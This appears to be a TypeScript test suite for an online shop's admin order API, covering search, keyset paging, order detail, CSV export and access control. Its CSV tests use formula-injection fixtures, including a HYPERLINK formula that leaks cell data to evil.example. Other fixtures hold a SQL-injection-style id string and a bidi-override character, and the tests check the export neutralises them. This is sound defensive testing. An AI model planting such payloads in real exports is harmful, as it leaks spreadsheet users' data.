/**
 * The owner's order API (issue #14): the overview (search, filters, newest first, keyset pages),
 * one order in full with its history, and the CSV export. Each test makes its orders under an
 * e-mail domain of its own and searches for it, so that the file's other orders never get in.
 */
import { randomUUID } from 'node:crypto';
import { eq, inArray, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AdminOrder } from '@shared/contracts/orders';
import { orders } from '../../../db/schema';
import { looksLikeFormula, parseCsv, spreadsheetCells } from '../../../test/csv';
import { testAddress } from '../../../test/factories/addresses';
import { createOrder, type OrderInput } from '../../../test/factories/admin-orders';
import { createProduct, type ProductFixture } from '../../../test/factories/products';
import { bearer, createUser, type TestUser } from '../../../test/factories/users';
import { createTestApp, type TestApp } from '../../../test/harness';
import { mailsTo } from '../../../test/mailbox';
import { BAD_CURSOR_MESSAGE, encodeCursor, EXPORT_HEADER, exportOrdersCsv } from './service';

let t: TestApp;
let admin: TestUser;
let customer: TestUser;
let puzzles: ProductFixture;
let colours: ProductFixture;

beforeAll(async () => {
  t = await createTestApp();
  admin = await createUser(t.app, { role: 'admin' });
  customer = await createUser(t.app, { role: 'customer' });
  puzzles = await createProduct(t.deps.database.db, { name: 'Puzzle Parade', pricePence: 799 });
  colours = await createProduct(t.deps.database.db, { name: 'Colour Calm', pricePence: 450 });
});
afterAll(() => t.close());

const db = () => t.deps.database.db;
const asAdmin = (url: string) => t.app.inject({ method: 'GET', url, headers: bearer(admin.token) });
const lines = () => [
  { productId: puzzles.id, name: puzzles.name, unitPence: 799, qty: 2 },
  { productId: colours.id, name: colours.name, unitPence: 450, qty: 1 },
];

/** An e-mail domain of the test's own: searching for it finds the test's orders only. */
const domain = () => `${randomUUID().slice(0, 8)}.example`;
const order = (email: string, more: Partial<OrderInput> = {}) => createOrder(t.app, { email, lines: lines(), ...more });

async function overview(query: Record<string, string | number>) {
  const res = await asAdmin(
    `/api/admin/orders?${new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]))}`,
  );
  expect(res.statusCode, res.body).toBe(200);
  return res.json() as { orders: AdminOrder[]; next_cursor: string | null };
}
const idsOf = async (query: Record<string, string | number>) =>
  (await overview({ limit: 100, ...query })).orders.map((o) => o.order_id);

/** Every page of the overview, following next_cursor. */
async function allPages(query: Record<string, string | number>) {
  const pages: string[][] = [];
  let cursor: string | null = null;
  do {
    const page = await overview({ ...query, ...(cursor ? { cursor } : {}) });
    pages.push(page.orders.map((o) => o.order_id));
    cursor = page.next_cursor;
  } while (cursor && pages.length < 50);
  return pages;
}

/**
 * Newest first as the database orders them, worked out here apart from the code under test: the
 * time in epoch microseconds (zero-padded text compares as the number), then the id, both descending.
 */
async function expectedOrder(ids: string[]) {
  const rows = await db()
    .select({
      id: orders.id,
      micros: sql<string>`lpad(((extract(epoch from ${orders.createdAt}) * 1000000)::bigint)::text, 20, '0')`,
    })
    .from(orders)
    .where(inArray(orders.id, ids));
  expect(rows).toHaveLength(ids.length);
  const descending = (a: string, b: string) => (a < b ? 1 : a > b ? -1 : 0);
  return rows.sort((a, b) => descending(a.micros, b.micros) || descending(a.id, b.id)).map((row) => row.id);
}

describe('GET /api/admin/orders (the overview)', () => {
  it("answers the admin's view of each order, newest first, and no next page when all fit", async () => {
    const d = domain();
    const older = await order(`ann@${d}`, {
      createdAt: new Date('2026-01-01T10:00:00Z'),
      deliveryAddress: testAddress({ name: 'Ann Older' }),
      paymentRef: 'demo',
    });
    const newer = await order(`bob@${d}`, {
      createdAt: new Date('2026-01-02T10:00:00Z'),
      addressMissing: true,
      status: 'Shipped',
      bookVaultRef: 'BV-77',
      trackingRef: 'RM1GB',
    });
    const page = await overview({ q: d });
    expect(page.next_cursor).toBeNull();
    expect(page.orders.map((o) => o.order_id)).toEqual([newer.id, older.id]);
    expect(page.orders[1]).toEqual({
      order_id: older.id,
      items: [
        { item: 'Colour Calm', quantity: 1, product_id: colours.id },
        { item: 'Puzzle Parade', quantity: 2, product_id: puzzles.id },
      ],
      total_cost: 24.31, // 2 × 7.99 + 4.50 + 3.83 shipping
      date: '2026-01-01T10:00:00.000Z',
      status: 'Printing',
      currency: 'gbp',
      bookVault_ref: null,
      tracking_ref: null,
      reviewed: false,
      delivery_address: testAddress({ name: 'Ann Older' }),
      user_email: `ann@${d}`,
      address_missing: false,
      print_state: null,
      payment_status: 'paid',
      refunded_total: 0,
      cancelled_at: null,
      refunded_at: null,
      cancellable_until: null,
      kind: 'sale',
      parent_order_id: null,
      problem_open: false,
    });
    expect(page.orders[0]).toMatchObject({
      status: 'Shipped',
      bookVault_ref: 'BV-77',
      tracking_ref: 'RM1GB',
      delivery_address: null,
      address_missing: true,
    });
  });

  it('finds an order by its number (the last 10 characters, any case, with or without #) or its whole id', async () => {
    const d = domain();
    const wanted = await order(`num@${d}`);
    const other = await order(`other@${d}`);
    const number = wanted.id.slice(-10);
    expect(await idsOf({ q: number })).toEqual([wanted.id]);
    expect(await idsOf({ q: number.toUpperCase() })).toEqual([wanted.id]);
    expect(await idsOf({ q: `#${number}` })).toEqual([wanted.id]);
    expect(await idsOf({ q: wanted.id })).toEqual([wanted.id]);
    expect(await idsOf({ q: ` ${wanted.id.toUpperCase()} ` })).toEqual([wanted.id]);
    expect(await idsOf({ q: other.id.slice(-10) })).toEqual([other.id]);
  });

  it('finds orders by part of the e-mail address or the delivery name, whatever the case', async () => {
    const d = domain();
    const ann = await order(`ann.reader@${d}`, { deliveryAddress: testAddress({ name: `Ann Smithers ${d}` }) });
    const bob = await order(`bob@${d}`, { deliveryAddress: testAddress({ name: `Bob Jones ${d}` }) });
    expect(await idsOf({ q: `ANN.READER@${d.toUpperCase()}` })).toEqual([ann.id]);
    expect(await idsOf({ q: `n.rea` })).toContain(ann.id);
    expect(await idsOf({ q: `n.rea` })).not.toContain(bob.id);
    expect(await idsOf({ q: `smithers ${d}` })).toEqual([ann.id]);
    expect(await idsOf({ q: `bob   JONES ${d}` })).toEqual([bob.id]);
    expect(await idsOf({ q: `nobody-${d}` })).toEqual([]);
  });

  it('reads %, _ and \\ in the search as themselves, not as wildcards', async () => {
    const d = domain();
    const percent = await order(`p@${d}`, { deliveryAddress: testAddress({ name: `Wild%card ${d}` }) });
    const underscore = await order(`u@${d}`, { deliveryAddress: testAddress({ name: `Under_score ${d}` }) });
    const backslash = await order(`b@${d}`, { deliveryAddress: testAddress({ name: `Back\\slash ${d}` }) });
    // What each would also match were the characters wildcards (or the backslash an escape).
    await order(`q@${d}`, { deliveryAddress: testAddress({ name: `WildXXcard ${d}` }) });
    await order(`v@${d}`, { deliveryAddress: testAddress({ name: `UnderXscore ${d}` }) });
    await order(`c@${d}`, { deliveryAddress: testAddress({ name: `Backslash ${d}` }) });
    expect(await idsOf({ q: `wild%card ${d}` })).toEqual([percent.id]);
    expect(await idsOf({ q: `under_score ${d}` })).toEqual([underscore.id]);
    expect(await idsOf({ q: `back\\slash ${d}` })).toEqual([backslash.id]);
    expect(await idsOf({ q: `%${d}` })).toEqual([]);
    expect(await idsOf({ q: `_${d}` })).toEqual([]);
  });

  it('filters by status and by a missing address, alone and together with a search', async () => {
    const d = domain();
    const printing = await order(`a@${d}`);
    const shipped = await order(`b@${d}`, { status: 'Shipped' });
    const delivered = await order(`c@${d}`, { status: 'Delivered' });
    const missing = await order(`d@${d}`, { addressMissing: true });
    const all = await idsOf({ q: d });
    expect(new Set(all)).toEqual(new Set([printing.id, shipped.id, delivered.id, missing.id]));
    expect(await idsOf({ q: d, status: 'Shipped' })).toEqual([shipped.id]);
    expect(await idsOf({ q: d, status: 'Delivered' })).toEqual([delivered.id]);
    expect(new Set(await idsOf({ q: d, status: 'Printing' }))).toEqual(new Set([printing.id, missing.id]));
    expect(await idsOf({ q: d, address_missing: 'true' })).toEqual([missing.id]);
    expect(new Set(await idsOf({ q: d, address_missing: 'false' }))).toEqual(
      new Set([printing.id, shipped.id, delivered.id]),
    );
    expect(await idsOf({ q: d, address_missing: 'true', status: 'Shipped' })).toEqual([]);
    // Without a search the filter still applies to every order.
    const everyMissing = await overview({ address_missing: 'true', limit: 100 });
    expect(everyMissing.orders.every((o) => o.address_missing)).toBe(true);
    expect(everyMissing.orders.map((o) => o.order_id)).toContain(missing.id);
  });

  it('pages newest first by cursor, stable over orders made at the same moment or within one millisecond: no repeats, no gaps', async () => {
    const d = domain();
    const made = [
      // Three at exactly the same moment: only the id tells them apart.
      ...(await Promise.all(
        [1, 2, 3].map((n) => order(`same${n}@${d}`, { createdAt: '2026-03-01 12:00:00.500500+00' })),
      )),
      // Two within that same millisecond, before and after it: a millisecond cursor would lose one or repeat one.
      await order(`micro-before@${d}`, { createdAt: '2026-03-01 12:00:00.500100+00' }),
      await order(`micro-after@${d}`, { createdAt: '2026-03-01 12:00:00.500900+00' }),
      await order(`later@${d}`, { createdAt: '2026-03-02 09:00:00+00' }),
      await order(`earlier@${d}`, { createdAt: '2026-02-28 09:00:00+00' }),
    ];
    const expected = await expectedOrder(made.map((o) => o.id));
    for (const limit of [1, 2, 3]) {
      const pages = await allPages({ q: d, limit });
      expect(pages.flat(), `limit ${limit}`).toEqual(expected);
      expect(pages.slice(0, -1).every((page) => page.length === limit)).toBe(true);
    }
    // The last full page says there is nothing after it only when nothing is.
    const exact = await overview({ q: d, limit: expected.length });
    expect(exact.next_cursor).toBeNull();
  });

  it('carries on from where the page ended when orders are made between pages', async () => {
    const d = domain();
    const first = await order(`1@${d}`, { createdAt: '2026-04-01 10:00:00+00' });
    const second = await order(`2@${d}`, { createdAt: '2026-04-01 09:00:00+00' });
    const third = await order(`3@${d}`, { createdAt: '2026-04-01 08:00:00+00' });
    const page1 = await overview({ q: d, limit: 2 });
    expect(page1.orders.map((o) => o.order_id)).toEqual([first.id, second.id]);
    // A new order (newest of all), and one older than what page 1 showed.
    const brandNew = await order(`new@${d}`);
    const backdated = await order(`old@${d}`, { createdAt: '2026-04-01 07:00:00+00' });
    const page2 = await overview({ q: d, limit: 2, cursor: page1.next_cursor! });
    expect(page2.orders.map((o) => o.order_id)).toEqual([third.id, backdated.id]);
    expect(page2.next_cursor).toBeNull();
    // Starting again shows the new order first.
    expect((await overview({ q: d, limit: 2 })).orders[0]!.order_id).toBe(brandNew.id);
  });

  it('answers 400 with a message, never a 5xx, for a bad cursor, limit, status, flag or search', async () => {
    const validId = randomUUID();
    const cursor = (value: unknown) =>
      Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
    const badCursors = [
      'not a cursor!',
      '%%%',
      cursor('not json'),
      cursor([1, 2]),
      cursor(null),
      cursor({ t: '2026-01-01T00:00:00.000000Z' }),
      cursor({ t: '2026-01-01T00:00:00.000000Z', i: 'nope' }),
      cursor({ t: '2026-01-01T00:00:00.000Z', i: validId }), // milliseconds only: not one of ours
      cursor({ t: '2026-02-30T00:00:00.000000Z', i: validId }),
      cursor({ t: '2026-01-01T25:00:00.000000Z', i: validId }),
      cursor({ t: '0000-01-01T00:00:00.000000Z', i: validId }),
      cursor({ t: 'yesterday', i: validId }),
      cursor({ t: '2026-01-01T00:00:00.000000Z', i: validId, extra: true }),
      'x'.repeat(201),
    ];
    for (const bad of badCursors) {
      const res = await asAdmin(`/api/admin/orders?cursor=${encodeURIComponent(bad)}`);
      expect(res.statusCode, `${bad}: ${res.body}`).toBe(400);
      expect(res.json().message, bad).toMatch(/cursor/i);
    }
    expect(BAD_CURSOR_MESSAGE).toMatch(/first page/);
    const badQueries = [
      ['limit=0', /limit.*at least 1/],
      ['limit=101', /limit.*at most 100/],
      ['limit=abc', /limit/],
      ['limit=1.5', /limit.*whole number/],
      ['limit=', /limit/],
      ['status=Lost', /status/],
      ['address_missing=yes', /address_missing/],
      [`q=${'x'.repeat(201)}`, /q.*too long/],
      ['q=%00', /./],
      ['q=a&q=b', /q/],
    ] as const;
    for (const [query, message] of badQueries) {
      const res = await asAdmin(`/api/admin/orders?${query}`);
      expect(res.statusCode, `${query}: ${res.body}`).toBe(400);
      expect(res.json().message, query).toMatch(message);
    }
  });

  it('accepts a cursor it made for an order that is gone: the next page is what comes after that place', async () => {
    const d = domain();
    const kept = await order(`kept@${d}`, { createdAt: '2026-05-01 08:00:00+00' });
    const gone = encodeCursor({ at: '2026-05-01T09:00:00.000000Z', id: randomUUID() });
    expect((await overview({ q: d, cursor: gone })).orders.map((o) => o.order_id)).toEqual([kept.id]);
  });
});

describe('GET /api/admin/orders/:orderId (one order in full)', () => {
  it('shows an order made by checkout with its lines, money, payment, address and every change of its history', async () => {
    const email = `detail-${randomUUID().slice(0, 8)}@example.com`;
    const open = await t.app.inject({
      method: 'POST',
      url: '/api/checkout/create_checkout_session',
      payload: {
        cartItems: [
          { product_id: puzzles.id, qty: 2 },
          { product_id: colours.id, qty: 1 },
        ],
        user_id: null,
        user_email: '',
      },
    });
    expect(open.statusCode, open.body).toBe(200);
    const paid = await t.app.inject({
      method: 'POST',
      url: `/api/checkout/demo/${open.json().sessionId}/pay`,
      payload: { email, address: testAddress() },
    });
    expect(paid.statusCode, paid.body).toBe(200);
    const orderId = paid.json().order_id as string;
    const row = (await db().select().from(orders).where(eq(orders.id, orderId)))[0]!;

    const update = (body: Record<string, unknown>) =>
      t.app.inject({
        method: 'POST',
        url: '/api/admin/update_order_status',
        headers: bearer(admin.token),
        payload: { order_id: orderId, ...body },
      });
    expect((await update({ status: 'Shipped', bookVault_ref: 'BV-1234', tracking_ref: 'RM123456GB' })).statusCode).toBe(
      200,
    );
    expect((await update({ status: 'Delivered' })).statusCode).toBe(200);
    const subjects = (await mailsTo(db(), email)).map((mail) => mail.subject).reverse(); // oldest first

    const res = await asAdmin(`/api/admin/orders/${orderId}`);
    expect(res.statusCode, res.body).toBe(200);
    const detail = res.json();
    expect(detail).toMatchObject({
      order_id: orderId,
      user_email: email,
      status: 'Delivered',
      bookVault_ref: 'BV-1234',
      tracking_ref: 'RM123456GB',
      delivery_address: testAddress(),
      address_missing: false,
      payment_ref: 'demo',
      delivery_zone: 'United Kingdom',
      currency: 'gbp',
      lines: [
        { product_id: colours.id, item: 'Colour Calm', quantity: 1, unit_price: 4.5 },
        { product_id: puzzles.id, item: 'Puzzle Parade', quantity: 2, unit_price: 7.99 },
      ],
      subtotal: row.subtotalPence / 100,
      discount: row.discountPence / 100,
      discount_code: null,
      shipping: 3.83,
      total_cost: row.totalPence / 100,
    });
    expect(detail.subtotal).toBe(20.48);
    expect(detail.history).toHaveLength(3);
    expect(
      detail.history.map(
        (h: {
          from: string | null;
          to: string;
          by: string;
          bookVault_ref: string | null;
          tracking_ref: string | null;
        }) => [h.from, h.to, h.by, h.bookVault_ref, h.tracking_ref],
      ),
    ).toEqual([
      [null, 'Printing', 'checkout', null, null],
      ['Printing', 'Shipped', admin.email, 'BV-1234', 'RM123456GB'],
      ['Shipped', 'Delivered', admin.email, null, null],
    ]);
    // Each line names the mail it sent the customer, in the order they were sent.
    expect(detail.history.map((h: { mail: string | null }) => h.mail)).toEqual(subjects.slice(-3));
    expect(detail.history[1].mail).toBe(`Your order ${orderId.slice(-10)} is on its way`);
    const times = detail.history.map((h: { at: string }) => Date.parse(h.at));
    expect(times.every((time: number) => !Number.isNaN(time))).toBe(true);
    expect([...times].sort((a, b) => a - b)).toEqual(times);
  });

  it('shows the discount, its code and the payment reference, and null for an order without an address', async () => {
    const made = await order(`disc@${domain()}`, {
      discountPence: 500,
      discountCode: 'SAVE5',
      paymentRef: 'pi_3Abc',
      addressMissing: true,
    });
    const detail = (await asAdmin(`/api/admin/orders/${made.id}`)).json();
    expect(detail).toMatchObject({
      subtotal: 20.48,
      discount: 5,
      discount_code: 'SAVE5',
      shipping: 3.83,
      total_cost: 19.31,
      payment_ref: 'pi_3Abc',
      delivery_address: null,
      address_missing: true,
    });
    expect(detail.history).toEqual([
      {
        from: null,
        to: 'Printing',
        bookVault_ref: null,
        tracking_ref: null,
        at: expect.any(String),
        by: 'checkout',
        mail: null,
        event: null,
      },
    ]);
  });

  it('answers 404 for an unknown order and 400 for something that is not an order id', async () => {
    const unknown = await asAdmin(`/api/admin/orders/${randomUUID()}`);
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json()).toEqual({ message: 'No order with that id.' });
    for (const bad of ['not-an-id', '12345', `${randomUUID()}x`, "1' or '1'='1"]) {
      const res = await asAdmin(`/api/admin/orders/${encodeURIComponent(bad)}`);
      expect(res.statusCode, bad).toBe(400);
      expect(res.json().message).toMatch(/orderId.*order id/);
    }
  });
});

describe('GET /api/admin/orders/export (CSV)', () => {
  async function exportCsv(query: Record<string, string>) {
    const res = await asAdmin(`/api/admin/orders/export?${new URLSearchParams(query)}`);
    expect(res.statusCode, res.body).toBe(200);
    return res;
  }
  const column = (name: string) => EXPORT_HEADER.indexOf(name);

  it('answers a UTF-8 CSV attachment with a BOM, CRLF records and one row per line item, addresses included', async () => {
    const d = domain();
    const made = await order(`csv@${d}`, {
      createdAt: new Date('2026-06-01T10:00:00Z'),
      deliveryAddress: testAddress({
        name: 'Zoë Brontë',
        line1: 'Flat 2, "The Old Mill"',
        line2: 'Mill Lane\nBack door',
        phone: '+44 1904 555123',
      }),
      paymentRef: 'demo',
      discountPence: 100,
      discountCode: 'TENOFF',
      status: 'Shipped',
      bookVaultRef: 'BV-9',
      trackingRef: 'TRK-9',
    });
    const res = await exportCsv({ q: d });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="orders-${new Date().toISOString().slice(0, 10)}.csv"`,
    );
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = res.rawPayload.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual(EXPORT_HEADER);
    expect(EXPORT_HEADER).toEqual(
      expect.arrayContaining([
        'Order number',
        'Order id',
        'Date',
        'Status',
        'E-mail',
        'Name',
        'Address line 1',
        'Address line 2',
        'Postcode',
        'Country',
        'Phone',
        'Book',
        'Quantity',
        'Unit price',
        'Order total',
        'Payment ref',
        'Print ref',
        'Tracking ref',
      ]),
    );
    expect(rows).toHaveLength(3);
    const record = (row: string[]) => Object.fromEntries(EXPORT_HEADER.map((name, i) => [name, row[i]]));
    expect(record(rows[1]!)).toEqual({
      'Order number': made.id.slice(-10),
      'Order id': made.id,
      'Replacement for': '',
      Date: '2026-06-01T10:00:00.000Z',
      Status: 'Shipped',
      'E-mail': `csv@${d}`,
      Name: 'Zoë Brontë',
      'Address line 1': 'Flat 2, "The Old Mill"',
      'Address line 2': 'Mill Lane\nBack door',
      'Town or city': 'York',
      County: 'North Yorkshire',
      Postcode: 'YO1 7HH',
      Country: 'GB',
      Phone: "'+44 1904 555123",
      'Address missing': 'no',
      // (the line break of a stored line 2 breaks the rule the checkout holds addresses to)
      'Address problems': 'Address line 2 must not contain < or > or control characters.',
      'Book id': colours.id,
      Book: 'Colour Calm',
      Quantity: '1',
      'Unit price': '4.50',
      'Order subtotal': '20.48',
      Discount: '1.00',
      'Discount code': 'TENOFF',
      Shipping: '3.83',
      'Delivery zone': '',
      'Order total': '23.31',
      'Payment status': 'paid',
      Refunded: '0.00',
      Net: '23.31',
      Currency: 'GBP',
      'Payment ref': 'demo',
      'Print ref': 'BV-9',
      'Tracking ref': 'TRK-9',
    });
    expect(record(rows[2]!)).toMatchObject({
      'Order id': made.id,
      Book: 'Puzzle Parade',
      Quantity: '2',
      'Unit price': '7.99',
      'Order total': '23.31',
    });
  });

  it('neutralises a formula in any cell (a name of =HYPERLINK(...)) so that a spreadsheet shows it as text', async () => {
    const d = domain();
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")';
    await order(`formula@${d}`, {
      deliveryAddress: testAddress({ name: evil, line1: '@SUM(1+1)', city: '-1+2', county: '+cmd' }),
    });
    const res = await exportCsv({ q: d });
    const raw = res.rawPayload.toString('utf8');
    expect(raw).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
    const [, row] = parseCsv(raw.slice(1));
    expect(row![column('Name')]).toBe(`'${evil}`);
    expect(row![column('Address line 1')]).toBe("'@SUM(1+1)");
    expect(row![column('Town or city')]).toBe("'-1+2");
    expect(row![column('County')]).toBe("'+cmd");
    // Every text cell of the file: none starts as a formula.
    expect(
      parseCsv(raw.slice(1))
        .flat()
        .filter((cell) => /^[=+\-@\t\r]/.test(cell)),
    ).toEqual([]);
  });

  it('leaves no formula for a spreadsheet that splits on semicolons or tabs, as most of Europe opens a .csv (issue 32, finding 7)', async () => {
    const d = domain();
    const address = testAddress({
      name: 'Ann;=HYPERLINK("http://evil.example/?"&A1,"Refund")',
      line1: '14 Orchard Row;+cmd',
      line2: 'Flat 2, @SUM(1+1)',
      county: 'York;-2+3',
    });
    await order(`europe@${d}`, { deliveryAddress: address });
    const raw = (await exportCsv({ q: d })).rawPayload.toString('utf8').slice(1);
    for (const separator of [',', ';', '\t'] as const) {
      for (const quotes of [true, false])
        expect(spreadsheetCells(raw, separator, { quotes }).filter(looksLikeFormula)).toEqual([]);
    }
    // A reader that splits on commas still gets each field whole, the apostrophes being the only change.
    const [, row] = parseCsv(raw);
    expect(row![column('Name')]).toBe(`Ann;'=HYPERLINK("http://evil.example/?"&A1,"Refund")`);
    expect(row![column('Address line 1')]).toBe("14 Orchard Row;'+cmd");
    expect(row![column('Address line 2')]).toBe("Flat 2, '@SUM(1+1)");
    expect(row![column('County')]).toBe("York;'-2+3");
  });

  it("names the original order's number on a replacement's rows, and leaves it empty on a normal order's", async () => {
    const d = domain();
    const original = await order(`lost@${d}`, { status: 'Shipped', deliveryAddress: testAddress() });
    const sent = await t.app.inject({
      method: 'POST',
      url: `/api/admin/orders/${original.id}/replacements`,
      headers: bearer(admin.token),
      payload: { lines: [{ product_id: puzzles.id, qty: 1 }], reason: 'lost_in_post' },
    });
    expect(sent.statusCode, sent.body).toBe(201);
    const replacementId = sent.json().order_id as string;
    const rows = parseCsv((await exportCsv({ q: d })).rawPayload.toString('utf8').slice(1)).slice(1);
    const replacementFor = (orderId: string) =>
      rows.filter((row) => row[column('Order id')] === orderId).map((row) => row[column('Replacement for')]);
    expect(replacementFor(replacementId)).toEqual([original.id.slice(-10)]);
    expect(replacementFor(original.id)).toEqual(['', '']);
  });

  it('names what breaks the address rule in a kept address (decision 133), so the file flags it too', async () => {
    const d = domain();
    await order(`held@${d}`, {
      deliveryAddress: testAddress({ name: 'Ann \u202eredaeR', phone: `+44 ${'1'.repeat(3000)}` }),
    });
    const [, row] = parseCsv((await exportCsv({ q: d })).rawPayload.toString('utf8').slice(1));
    expect(row![column('Address problems')]).toBe(
      'Full name contains an invisible character (U+202E) that can reorder or hide text: please type it again without it. Phone number must be at most 24 characters.',
    );
  });

  it("exports the overview's filters (search, status, missing address) and an empty file when nothing matches", async () => {
    const d = domain();
    const shipped = await order(`s@${d}`, { status: 'Shipped' });
    const missing = await order(`m@${d}`, { addressMissing: true, lines: [lines()[0]!] });
    const orderIds = async (query: Record<string, string>) => {
      const rows = parseCsv((await exportCsv(query)).rawPayload.toString('utf8').slice(1)).slice(1);
      return [...new Set(rows.map((row) => row[column('Order id')]))];
    };
    expect(new Set(await orderIds({ q: d }))).toEqual(new Set([shipped.id, missing.id]));
    expect(await orderIds({ q: d, status: 'Shipped' })).toEqual([shipped.id]);
    expect(await orderIds({ q: d, address_missing: 'true' })).toEqual([missing.id]);
    const empty = await exportCsv({ q: `nobody-${d}` });
    expect(parseCsv(empty.rawPayload.toString('utf8').slice(1))).toEqual([EXPORT_HEADER]);
    // A page's cursor and limit mean nothing to the export: every matching order is in it.
    expect(new Set(await orderIds({ q: d, limit: '1', cursor: 'ignored' }))).toEqual(new Set([shipped.id, missing.id]));
  });

  it('reads the orders batch by batch (keyset), with ties in created_at, each order once and in order', async () => {
    const d = domain();
    const made = [
      ...(await Promise.all(
        [1, 2, 3, 4].map((n) => order(`tie${n}@${d}`, { createdAt: '2026-07-01 12:00:00.250250+00' })),
      )),
      await order(`micro@${d}`, { createdAt: '2026-07-01 12:00:00.250750+00' }),
      await order(`late@${d}`, { createdAt: '2026-07-02 12:00:00+00' }),
      await order(`early@${d}`, { createdAt: '2026-06-30 12:00:00+00' }),
    ];
    const expected = await expectedOrder(made.map((o) => o.id));
    const chunks: string[] = [];
    for await (const chunk of await exportOrdersCsv(t.app.ctx, { q: d }, { batchSize: 2 })) chunks.push(chunk);
    // The header, then one chunk per batch of two orders.
    expect(chunks).toHaveLength(1 + Math.ceil(made.length / 2));
    const rows = parseCsv(chunks.join('').slice(1)).slice(1);
    const ids = rows.map((row) => row[column('Order id')]!);
    expect([...new Set(ids)]).toEqual(expected);
    expect(rows).toHaveLength(made.length * 2);
  });

  it('refuses a bad filter with 400, as the overview does', async () => {
    for (const query of ['status=Lost', 'address_missing=maybe', `q=${'x'.repeat(201)}`]) {
      const res = await asAdmin(`/api/admin/orders/export?${query}`);
      expect(res.statusCode, query).toBe(400);
      expect(res.json().message).toMatch(/status|address_missing|too long/);
    }
  });
});

describe('permissions', () => {
  const routes = () => ['/api/admin/orders', `/api/admin/orders/${randomUUID()}`, '/api/admin/orders/export'];

  it('answers 401 without a session and 403 to a customer on every new route, and lets the admin in', async () => {
    const made = await order(`perm@${domain()}`);
    for (const url of [...routes(), `/api/admin/orders/${made.id}`]) {
      const anonymous = await t.app.inject({ method: 'GET', url });
      expect(anonymous.statusCode, url).toBe(401);
      const asCustomer = await t.app.inject({ method: 'GET', url, headers: bearer(customer.token) });
      expect(asCustomer.statusCode, url).toBe(403);
      expect(asCustomer.body).not.toContain('perm@');
    }
    expect((await asAdmin(`/api/admin/orders/${made.id}`)).statusCode).toBe(200);
  });
});
